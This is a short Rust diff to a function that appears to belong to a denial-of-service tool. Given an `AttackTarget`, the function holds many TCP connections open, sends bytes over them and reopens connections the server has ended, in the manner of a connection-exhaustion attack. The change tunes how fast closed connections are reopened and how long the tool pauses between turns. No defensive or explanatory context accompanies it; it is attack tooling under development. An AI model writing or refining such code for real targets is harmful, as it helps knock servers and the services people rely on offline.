@@ -150,17 +150,22 @@ fn send(socket: &mut TcpStream, bytes: &[u8]) -> bool {
             .map_or_else(|error| is_alive(&error), |()| true)
 }
 
-/// Keeps `count` connections on which `bytes` are sent once; opens ended ones again, a tenth of them in each turn. Returns the number of
-/// connections opened.
+/// Keeps `count` connections on which `bytes` are sent once. Opens a tenth of them in each turn, and then a fiftieth again for those that the
+/// server has ended. Returns the number of connections opened.
 fn hold(target: &AttackTarget, is_over: &AtomicBool, count: usize, bytes: &[u8]) -> u64 {
     let (mut sockets, mut opened) = (Vec::new(), 0);
     while !is_over.load(Ordering::Relaxed) {
         sockets.retain_mut(|socket| send(socket, &[]));
-        let mut new = target.open((count - sockets.len()).min(count / 10));
+        let most = if opened < count as u64 {
+            count / 10
+        } else {
+            count / 50
+        };
+        let mut new = target.open((count - sockets.len()).min(most.max(1)));
         opened += new.len() as u64;
         new.retain_mut(|socket| send(socket, bytes));
         sockets.extend(new);
-        sleep(10 * PAUSE);
+        sleep(40 * PAUSE);
     }
     opened
 }
